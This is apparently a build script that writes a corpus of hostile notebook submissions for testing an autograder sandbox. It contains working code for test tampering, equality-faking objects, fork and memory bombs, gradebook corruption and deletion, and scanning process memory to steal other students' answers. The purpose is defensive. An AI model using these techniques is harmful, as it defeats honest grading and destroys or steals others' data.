"""Rebuild the attack notebooks of examples/hostile/: `.venv/bin/python examples/hostile/build.py`.

The committed notebooks are the corpus; this script is how they were written.
Each attack notebook holds the attack's code cells and, in its metadata, how
`corpus.assemble` turns it into a submission (see corpus.py).
"""

import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ROOT = Path(__file__).resolve().parent
# Templates for every solution function (`{def}` is the stub's def line): a wrong answer,
# and an object that claims to equal anything.
WRONG = "{def}\n    return 0.0"
LIAR = "{def}\n    return Liar(0.0)"


def nb(desc, cells, **how):
    n = new_notebook()
    n.metadata["calcgrad_hostile"] = how
    n.cells = [new_markdown_cell(desc)] + [new_code_cell(c.strip("\n")) for c in cells]
    return n

A = {}
A["input_transformer"] = nb(
    "An IPython input transformer turns every later cell into `pass`: no test cell can fail.",
    ['''
# every cell after this one becomes `pass`
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''], base="blank")
A["ast_transformer"] = nb(
    "An AST transformer wraps every later cell in `try: ... except BaseException: pass`.",
    ['''
import ast

class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                    body=[ast.Pass()])
        guarded = ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                          finalbody=[])
        return ast.fix_missing_locations(ast.Module(body=[guarded], type_ignores=[]))

get_ipython().ast_transformers.append(Swallow())
'''], base="blank")
A["monkeypatch_libs"] = nb(
    "Comparisons in torch, NumPy and builtins always say equal; every answer is 0.",
    ['''
import builtins
import numpy as np
import torch

always = lambda *args, **kwargs: True
torch.allclose = torch.equal = always
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
np.allclose = np.array_equal = always
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
builtins.all = builtins.any = always
'''], base="blank", solutions=WRONG)
A["patch_checks"] = nb(
    "`calcgrad.checks.close/equal/holds` replaced by functions that print a tick.",
    ['''
from calcgrad import checks

def tick(name, *args, **kwargs):
    print("\\u2714", name)

checks.close = checks.equal = checks.holds = tick
'''], base="blank")
A["patch_verdicts"] = nb(
    "The comparison inside `calcgrad.checks` (its imported `compare_*` and `judge`) always passes.",
    ['''
import calcgrad.checks
import calcgrad.verdicts
from calcgrad.verdicts import Verdict

passed = lambda name, *args, **kwargs: Verdict(True, f"{name}: correct.")
for module in (calcgrad.checks, calcgrad.verdicts):
    module.compare_close = module.compare_equal = module.compare_holds = passed
calcgrad.checks.judge = lambda check, got: Verdict(True, check.name)
'''], base="blank")
A["replace_runner"] = nb(
    "A runner of the student's own installed with `checks.use_runner`: it never fails.",
    ['''
from calcgrad import checks

class Lenient:
    def run(self, check):
        print("\\u2714", check.name)

checks.use_runner(Lenient())
'''], base="blank")
A["steal_expected"] = nb(
    "`checks.close` wrapped so the student half returns the expected half's value.",
    ['''
from calcgrad import checks

real_close, real_equal = checks.close, checks.equal

def close(name, student, expected, **kwargs):
    return real_close(name, student=lambda: expected(), expected=expected, **kwargs)

def equal(name, student, expected, **kwargs):
    return real_equal(name, student=lambda: expected(), expected=expected, **kwargs)

checks.close, checks.equal = close, equal
'''], base="blank")
A["always_equal"] = nb(
    "Every answer is an object that claims to equal anything (a float and a tensor subclass).",
    ['''
import torch

class Liar(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
    def __float__(self):
        return 1.0

class LiarTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
'''], base="blank", solutions=LIAR)
A["read_course"] = nb(
    "Looks for the course on disk: runs the solutions from source/ after every cell, "
    "then tries to damage source/, the gradebook, other submissions and calcgrad itself "
    "(only in a course folder marked .calcgrad-hostile-target, so a broken sandbox cannot "
    "hurt a real course).",
    ['''
import os

found = {"source": [], "gradebook": [], "submitted": []}
roots = ["/tmp", "/work", "/root", "/home", "/srv", "/var"]
here = os.path.abspath(".")
while here != "/":
    roots.append(here)
    here = os.path.dirname(here)
for root in roots:
    for folder, dirs, files in os.walk(root):
        if folder.count(os.sep) - root.count(os.sep) > 6:
            dirs[:] = []
        dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", ".git")]
        for f in files:
            path = os.path.join(folder, f)
            if f == "gradebook.db":
                found["gradebook"].append(path)
            elif f.endswith(".ipynb") and os.sep + "source" + os.sep in path:
                found["source"].append(path)
            elif f.endswith(".ipynb") and os.sep + "submitted" + os.sep in path:
                found["submitted"].append(path)
print({k: len(v) for k, v in found.items()})
''', '''
import json

answers = ""
for path in found["source"]:
    with open(path) as fh:
        nb = json.load(fh)
    answers += "\\n".join("".join(c["source"]) for c in nb["cells"]
                         if c.get("metadata", {}).get("nbgrader", {}).get("solution")
                         and c["cell_type"] == "code") + "\\n"

def cheat(result):
    exec(answers, get_ipython().user_ns)

if answers:
    get_ipython().events.register("post_run_cell", cheat)
''', '''
import shutil
import calcgrad.checks

# Damage only a course that asks for it (the test's throwaway course carries this marker),
# so that a broken sandbox costs a test run, never a real course.
MARK = ".calcgrad-hostile-target"
targets = [p for p in found["gradebook"] + found["submitted"] + found["source"]
           if any(os.path.exists(os.path.join(d, MARK))
                  for d in [os.path.dirname(p)] + [p.rsplit(os.sep, k)[0] for k in range(2, 6)])]
damage = []
for path in [p for p in targets if p.endswith("gradebook.db")]:
    try:
        with open(path, "r+b") as fh:
            fh.write(b"garbage")
        damage.append(path)
    except OSError as exc:
        print("gradebook:", exc)
for path in [p for p in targets if p.endswith(".ipynb")]:
    try:
        os.remove(path)
        damage.append(path)
    except OSError as exc:
        print("remove:", exc)
for path in [p for p in targets if os.sep + "source" + os.sep in p]:
    shutil.rmtree(os.path.dirname(os.path.dirname(path)), ignore_errors=True)
try:
    with open(calcgrad.checks.__file__, "a"):  # opening for writing is enough to tell
        pass
    damage.append(calcgrad.checks.__file__)
except OSError as exc:
    print("calcgrad:", exc)
print("damaged:", damage)
'''], base="blank")
A["delete_tests"] = nb("Every test cell deleted; every answer is 0.", [
    "# (nothing else: the test cells are gone)\npass"], base="blank", solutions=WRONG,
    tests="delete")
A["edit_tests"] = nb("Every test cell replaced by `pass`; every answer is 0.", [
    "# (nothing else: the test cells say pass)\npass"], base="blank", solutions=WRONG,
    tests="edit")
A["os_exit"] = nb("The process ends itself after the first exercise: `os._exit`.", [
    "import os\nos._exit(3)"], base="reference", where="after_first_test")
A["segfault"] = nb("A segmentation fault through ctypes after the first exercise.", [
    "import ctypes\nctypes.string_at(0)"], base="reference", where="after_first_test")
A["infinite_loop"] = nb("An infinite loop after the first exercise.", [
    "while True:\n    pass"], base="reference", where="after_first_test")
A["stubborn_loop"] = nb("An infinite loop that swallows every interrupt.", [
    '''
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
'''], base="reference", where="after_first_test")
A["memory_bomb"] = nb("Allocates memory until something gives.", [
    '''
hog = []
while True:
    hog.append(bytearray(64 * 1024 * 1024))
'''], base="reference", where="after_first_test")
A["output_flood"] = nb("A 200 MB line of output, then a million lines.", [
    '''
print("x" * 200_000_000)
for i in range(1_000_000):
    print(i)
'''], base="reference", where="after_first_test")
A["leftovers"] = nb("A thread that never ends, a detached process, and a fork bomb of sleepers.", [
    '''
import os
import subprocess
import threading
import time

threading.Thread(target=time.sleep, args=(10**6,)).start()
subprocess.Popen(["sleep", "100000"], start_new_session=True)
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            os.setsid()
            time.sleep(10**6)
            os._exit(0)
        children += 1
except OSError as exc:
    print("fork stopped after", children, "children")
'''], base="reference", where="after_first_test")
A["network"] = nb(
    "Fetches the answers from a server on the host's loopback, and tries the internet.",
    ['''
import socket
import urllib.request

answers = ""
for url in ["http://127.0.0.1:47613/answers.py", "http://localhost:47613/answers.py"]:
    try:
        answers = urllib.request.urlopen(url, timeout=3).read().decode()
        break
    except OSError as exc:
        print("blocked:", url, exc)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3)
    print("internet reachable")
except OSError as exc:
    print("internet blocked:", exc)

def cheat(result):
    exec(answers, get_ipython().user_ns)

if answers:
    get_ipython().events.register("post_run_cell", cheat)
'''], base="blank")
A["memory_leech"] = nb(
    "Scans its own process memory (/proc/self/maps and ctypes) for another student's solution "
    "functions (`def d_power(`...) left there by a warm worker that read earlier jobs, and "
    "re-installs them after every cell.", ['''
import ctypes
import json
import re

DEF = re.compile(rb"def ([A-Za-z_][A-Za-z0-9_]*)\\(")


def _text_at(buf, start):
    """The text that starts at a match: a Python str (NUL-ended) or JSON-escaped bytes."""
    raw = bytes(buf[start:start + 6000]).split(b"\\0", 1)[0]
    if b"\\\\n" in raw and b"\\n" not in raw.split(b"\\\\n", 1)[0]:
        end = re.search(rb'(?<!\\\\)"', raw)
        raw = raw[:end.start()] if end else raw
        try:
            return json.loads(b'"' + raw + b'"')
        except ValueError:
            return ""
    return raw.decode("utf-8", "ignore")


def _function(text):
    lines = text.split("\\n")
    keep = [lines[0]]
    for line in lines[1:]:
        if line.strip() and not line[0].isspace():
            break
        keep.append(line)
    return "\\n".join(keep).rstrip() + "\\n"


def steal():
    found = {}
    with open("/proc/self/maps") as fh:
        regions = fh.read().splitlines()
    for region in regions:
        parts = region.split()
        if len(parts) < 2 or not parts[1].startswith("rw"):
            continue
        if len(parts) > 5 and not parts[5].startswith("[heap"):
            continue  # files and special mappings: only the heap and anonymous memory
        low, high = (int(x, 16) for x in parts[0].split("-"))
        buf = (ctypes.c_char * (high - low)).from_address(low)
        for match in DEF.finditer(buf):
            try:  # live memory: the bytes may change between the match and this read
                name = match.group(1).decode("ascii")
            except UnicodeDecodeError:
                continue
            if name in found:
                continue
            source = _function(_text_at(buf, match.start()))
            if "NotImplementedError" in source or "DEF.finditer" in source:
                continue  # a blank stub, or this cell
            try:
                compile(source, "<stolen>", "exec")
            except (SyntaxError, ValueError):
                continue
            found[name] = source
    return found


stolen = steal()
print("functions found in memory:", len(stolen))


def reinstall(result):
    """Replace every blank stub (it raises NotImplementedError) by the stolen function."""
    ns = get_ipython().user_ns
    for name, source in stolen.items():
        code = getattr(ns.get(name), "__code__", None)
        if code is not None and "NotImplementedError" in code.co_names:
            try:
                exec(source, ns)
            except Exception:
                pass


get_ipython().events.register("post_run_cell", reinstall)
'''], base="blank")
A["showtraceback"] = nb(
    "nbgrader's own test_showtraceback_exploit: the shell's showtraceback is silenced, so a "
    "failing test cell shows no error; the blank answers raise NotImplementedError.", ['''
from IPython.core.interactiveshell import InteractiveShell

InteractiveShell.showtraceback = lambda *args, **kwargs: None
'''], base="blank")
A["patch_runner"] = nb(
    "The sandbox's own runner (`calcgrad.grading.runner`) patched from inside: errors and "
    "output are swallowed, events are never sent.", ['''
import calcgrad.grading.runner as runner

runner.Cell.error = lambda *args, **kwargs: None
runner.Cell.stream = lambda *args, **kwargs: None
runner.Channel.send = lambda *args, **kwargs: None
runner.tamper_flags.__code__ = (lambda *args: set()).__code__
'''], base="blank")
A["renamed"] = nb("The reference solutions, in a notebook with another name.", [
    "# nothing hostile: only the file name differs\npass"], base="reference")
A["extra_files"] = nb(
    "A fake `calcgrad` package submitted next to the notebook, whose checks always pass: "
    "the files reach the notebook's folder (as under nbgrader), and the notebook loads the "
    "fake checks and puts them where the test cells look for `checks`.", ['''
import importlib.util
import os

spec = importlib.util.spec_from_file_location("fake_checks", os.path.join("calcgrad", "checks.py"))
fake = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fake)
checks = fake  # every test cell's `checks.close(...)` now just prints a tick
'''], base="blank")

B = {}
B["patch_checks"] = A["patch_checks"]
B["steal_expected"] = A["steal_expected"]
B["autograd_patch"] = nb(
    "torch patched: `backward` does nothing, `torch.allclose` and `Tensor.__eq__` always agree.", ['''
import torch

torch.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.Tensor.backward = lambda self, *args, **kwargs: None
'''], base="blank")
B["segfault"] = A["segfault"]
B["memory_leech"] = A["memory_leech"]
B["showtraceback"] = A["showtraceback"]

for assignment, attacks in (("ps1_calculus", A), ("ps2_autograd", B)):
    for name, n in attacks.items():
        for i, cell in enumerate(n.cells):  # stable ids: rebuilding changes nothing
            cell.id = f"{name.replace('_', '-')}-{i}"
        nbformat.write(n, ROOT / assignment / f"{name}.ipynb")
(ROOT / "ps1_calculus" / "corrupt_json.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "print(1)"')
(ROOT / "ps1_calculus" / "not_a_notebook.ipynb").write_text(json.dumps({"nbformat": 4, "cells": "all of them", "answer": 42}))
extra = ROOT / "ps1_calculus" / "extra_files" / "calcgrad"
extra.mkdir(parents=True, exist_ok=True)
(extra / "__init__.py").write_text("")
(extra / "checks.py").write_text('''"""A fake calcgrad.checks: every check passes."""


def _tick(name, *args, **kwargs):
    print("\\u2714", name)


close = equal = holds = _tick


def points(seed, n, low=-2.0, high=2.0, dtype=None):
    import torch
    return torch.linspace(low, high, n, dtype=torch.float64)
''')
